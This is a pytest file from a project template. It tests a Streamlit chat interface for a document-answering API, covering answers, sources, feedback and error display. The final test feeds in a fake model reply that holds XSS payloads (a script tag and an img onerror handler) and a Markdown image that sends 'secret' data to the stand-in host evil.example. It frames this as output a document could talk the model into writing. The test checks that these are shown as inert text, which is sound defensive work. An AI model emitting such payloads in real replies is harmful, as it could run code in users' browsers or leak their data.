"""The Chat page, run by Streamlit's AppTest against the live API."""

import json

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

import {{ cookiecutter.package_name }}.api.app
from {{ cookiecutter.package_name }}.api.app import create_app
from {{ cookiecutter.package_name }}.schemas import CheckResult
from {{ cookiecutter.package_name }}.settings import Settings
from {{ cookiecutter.package_name }}.ui.client import ApiClient
from {{ cookiecutter.package_name }}.ui.state import plain
from tests.conftest import SAMPLE_DOCS
from tests.fakes import FakeChatModel
from tests.servers import close_connections, serve_in_thread
from tests.ui.conftest import ANSWER, BROKEN, QUESTION, Request, app_test


def ask(at: AppTest, question: str = QUESTION) -> AppTest:
    at.run()
    assert not at.exception
    at.chat_input[0].set_value(question).run()
    assert not at.exception, at.exception
    return at


def main_texts(at: AppTest) -> list[str]:
    return [element.value for element in at.main.markdown]


def test_question_gets_a_streamed_answer_with_its_sources(
    monkeypatch: pytest.MonkeyPatch, loaded_api_url: str
) -> None:
    at = ask(app_test(monkeypatch, loaded_api_url))

    question, answer = at.chat_message
    assert (question.name, answer.name) == ("user", "assistant")
    assert question.markdown[0].value == plain(QUESTION)  # shown as typed, not as Markdown
    assert ANSWER in answer.markdown[0].value
    sources = answer.expander[0]
    assert sources.label.startswith(f"Sources: {plain('warranty.md')}")
    assert any(plain("warranty.md") in m.value for m in sources.markdown)
    assert all(not c.value.startswith("#") for c in sources.caption)  # snippets stay text
    assert at.sidebar.status[0].label == "API ready"
    assert not at.error

    at.run()  # the history survives a rerun
    assert [m.name for m in at.chat_message] == ["user", "assistant"]
    assert ANSWER in at.chat_message[1].markdown[0].value


def test_feedback_is_sent_with_question_answer_and_citations(
    monkeypatch: pytest.MonkeyPatch, loaded_api_url: str, requests_log: list[Request]
) -> None:
    at = ask(app_test(monkeypatch, loaded_api_url))

    at.feedback[0].set_value(0).run()  # 👎
    at.main.text_input[0].set_value("Should name the form too.").run()
    next(b for b in at.main.button if b.label == "Send feedback").click().run()

    assert not at.exception
    # Thanked once, in place of the rating, comment and button.
    assert [s.value for s in at.success] == ["Feedback sent. Thank you!"]
    assert not at.feedback
    assert not at.main.text_input
    assert "Send feedback" not in [b.label for b in at.main.button]
    sent = [json.loads(body) for method, path, body in requests_log if path == "/v1/feedback"]
    assert len(sent) == 1
    assert sent[0]["rating"] == "down"
    assert sent[0]["comment"] == "Should name the form too."
    assert sent[0]["question"] == QUESTION
    assert ANSWER in sent[0]["answer"]
    assert sent[0]["citation_ids"]

    at.run()  # confirmed once, not sendable twice
    assert "Feedback sent" in at.success[0].value
    assert not at.feedback


def test_api_down_is_a_readable_error(monkeypatch: pytest.MonkeyPatch, closed_url: str) -> None:
    at = ask(app_test(monkeypatch, closed_url))

    assert f"Cannot reach the API at {closed_url}" in at.sidebar.error[0].value
    assert f"Cannot reach the API at {closed_url}" in at.main.error[0].value
    assert at.chat_message[0].markdown[0].value == plain(QUESTION)  # the question stays
    at.run()
    assert at.chat_message[0].markdown[0].value == plain(QUESTION)
    assert not at.exception


def test_api_server_error_shows_its_message(
    monkeypatch: pytest.MonkeyPatch, broken_url: str
) -> None:
    at = ask(app_test(monkeypatch, broken_url))

    assert at.main.error[0].value == f"{BROKEN} (request id: req-42)"
    assert not at.exception


def test_sidebar_names_the_check_that_fails(
    monkeypatch: pytest.MonkeyPatch, settings: Settings
) -> None:
    async def down() -> CheckResult:
        return CheckResult(status="error", detail="ConnectError: connection refused")

    async def fine() -> CheckResult:
        return CheckResult(status="ok")

    app = close_connections(create_app(settings, checks={"data_dir": fine, "vector_store": down}))
    with serve_in_thread(app) as url:
        at = app_test(monkeypatch, url).run()

    status = at.sidebar.status[0]
    assert (status.label, status.state) == ("API not ready", "error")
    lines = [markdown.value for markdown in status.markdown]
    assert any("data" in line and "check_circle" in line for line in lines)
    assert any("vector" in line and "connection refused" in line for line in lines)
    assert not at.exception


def test_html_and_images_in_an_answer_are_shown_as_text(
    monkeypatch: pytest.MonkeyPatch, settings: Settings
) -> None:
    """Model output is untrusted (OWASP LLM05): what a document talked the model into
    writing must not run (script, event handler) or fetch (an image URL carrying data)."""
    reply = (
        "Email us <script>alert(1)</script> <img src=x onerror=alert(2)> "
        "![logo](https://evil.example/leak?d=secret) [form](https://evil.example/form) [1]"
    )
    model = FakeChatModel(messages=iter([reply, reply]), prompts=[])
    monkeypatch.setattr({{ cookiecutter.package_name }}.api.app, "build_chat_model", lambda _: model)
    with serve_in_thread(close_connections(create_app(settings))) as url:
        with ApiClient(url) as client:
            client.upload([("warranty.md", (SAMPLE_DOCS / "warranty.md").read_bytes())])
        at = ask(app_test(monkeypatch, url))
        streamed = at.chat_message[1].markdown[0]
        at.run()  # and as the history shows it
        shown = at.chat_message[1].markdown[0]

    # Rendered the way Streamlit's Markdown would be if it let HTML through: still text.
    render = MarkdownIt("commonmark", {"html": True}).render
    for element in (streamed, shown):
        assert not element.proto.allow_html
        html = render(element.value)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
        assert "&lt;img src=x onerror=alert(2)&gt;" in html
        assert "<script" not in html
        assert "<img" not in html
        assert "<a " not in html  # no link, no image: their URLs stay visible text
        assert "https://evil.example/leak?d=secret" in html
